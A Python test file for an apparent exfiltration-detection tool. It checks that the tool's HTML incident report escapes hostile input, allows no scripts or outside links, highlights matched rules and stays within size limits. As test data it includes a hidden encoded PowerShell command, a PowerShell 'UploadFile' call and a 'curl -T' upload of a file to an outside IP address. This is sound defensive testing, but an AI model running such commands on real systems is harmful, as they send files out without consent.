"""The page: closed by its policy, the same whatever stands in it, never too large."""

import re
from collections import Counter
from html.parser import HTMLParser

import pytest

from exfilwatch_playbooks.hostile import visible
from exfilwatch_playbooks.report.page import html, policy

from ..findings.made import make  # noqa: TID252 (tests are no package on the path)
from ..hostile_corpus import KINDS, LONG  # noqa: TID252 (tests are no package on the path)
from .incidents import ENCODED, HIDDEN, POWERSHELL, demo, huge, page


class Read(HTMLParser):
    """The tags and attributes of a page, and its text."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: Counter[str] = Counter()
        self.attributes: set[str] = set()
        self.links: set[str] = set()
        self.text = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        self.attributes |= {name for name, _ in attrs}
        self.links |= {value or "" for name, value in attrs if name in ("href", "src", "action", "srcset", "data")}

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.fixture(scope="module")
def plain() -> Read:
    incident, findings, rules = demo("WS-ACC-07.nordwind.example")
    return Read(html(incident, findings, rules))


def test_the_page_needs_and_allows_nothing_but_itself(plain) -> None:
    incident, findings, rules = demo("WS-ACC-07.nordwind.example")
    text = html(incident, findings, rules)
    style = re.search("<style>(.*?)</style>", text, re.DOTALL)[1]
    assert policy(style).replace("'", "&#39;") in text
    assert plain.links
    assert all(link.startswith("#") for link in plain.links)
    assert not {"style", "srcdoc"} & plain.attributes
    assert not [name for name in plain.attributes if name.startswith("on")]
    assert not {"script", "iframe", "object", "embed", "link", "img", "form", "base"} & set(plain.tags)
    assert "url(" not in style
    assert "@import" not in style


def test_the_page_tells_of_everything_that_the_issue_asks_for(plain) -> None:
    for said in (
        "Summary", "Timeline", "Process tree", "What was run", "Destinations and volume", "What to do now",
        "Raw evidence", "WS-ACC-07.nordwind.example", "NORDWIND\\l.hoffmann", "127.0.0[.]1", "Automated Exfiltration",
        "UploadFile('http://127.0.0.1:8443/upload', $_.FullName)",
    ):  # fmt: skip
        assert said in plain.text
    assert plain.tags["svg"] == 1
    assert plain.tags["input"] > 10
    assert plain.tags["mark"] > 3


def test_a_hidden_command_is_shown_as_it_was_and_as_it_is_meant() -> None:
    text = page(make("a", Image=POWERSHELL, CommandLine=f"powershell.exe -w hidden -enc {ENCODED}"))
    assert f'<mark class="hidden">{ENCODED}</mark>' in text
    read = Read(text)
    assert "encoded command" in read.text
    assert HIDDEN in read.text
    assert 'class="destination found"' in text


def test_what_a_rule_matched_is_marked_at_its_offset() -> None:
    assert '<mark class="matched">-T </mark>' in page(make("a", CommandLine="curl -T /srv/x http://198.51.100.4/"))


@pytest.mark.parametrize("kind", KINDS)
def test_hostile_text_stays_text(kind) -> None:
    """Whatever stands in a field, the page has the tags that it has with harmless words, and shows the text."""
    harmless = Read(_everywhere([f"word{number}" for number in range(_AT_ONCE)]))
    for start in range(0, len(KINDS[kind]), _AT_ONCE):
        values = KINDS[kind][start : start + _AT_ONCE]
        text = _everywhere(values)
        read = Read(text)
        assert set(read.tags) <= {*harmless.tags, "mark", "b", "br"}
        assert read.attributes <= harmless.attributes
        assert all(link.startswith("#") for link in read.links)
        assert not re.search("[\ud800-\udfff\u202a-\u202e\u2066-\u2069\x00-\x08\x0b-\x1f\x7f-\x9f]", text)
        for value in values:
            assert visible(value, keep="\n\t")[:100].strip() in read.text


@pytest.mark.parametrize("kind", LONG)
def test_a_megabyte_of_anything_is_cut_with_a_remark(kind) -> None:
    text = _everywhere([LONG[kind]])
    assert len(text.encode()) < 1_500_000
    assert "The whole text is in" in text
    assert set(Read(text).tags) <= {*Read(_everywhere(["word"])).tags, "mark", "b", "br", "p"}


_AT_ONCE = 30


def _everywhere(values: list[str]) -> str:
    """A page in which the first is host and user, and each is all the rest of an event."""
    return page(*(
        make(f"event {number}", number / 60, host=f"{values[0]}1", user=f"{values[0]}1", source=value, level="high",
             branch=value or "x", CommandLine=value, Image=f"/usr/bin/{value}", ParentImage=value, User=value,
             ParentCommandLine=value, TargetFilename=value, DestinationHostname=value, DestinationIp=value,
             ScriptBlockText=value, **{f"field {value}": value})
        for number, value in enumerate(values)
    ))  # fmt: skip


def test_a_page_grows_by_less_than_a_kilobyte_with_an_event() -> None:
    """Until there is no room for more: `make bench` measures 5,000 events against 5 MB."""
    assert len(huge(1_500).encode()) < 1_500_000 + 300_000


def test_so_are_events_that_are_as_large_as_can_be() -> None:
    text = page(*[
        make(str(n), n / 60, CommandLine=f"{n}" + '"<&\u202e' * 250_000, TargetFilename="'" * 100_000, Note="'" * 9_000,
             source='"' * 9_000)
        for n in range(140)
    ])  # fmt: skip
    assert len(text.encode()) < 5_000_000
    assert "The whole text is in" in text
    assert "no fields here, for want of room" in text
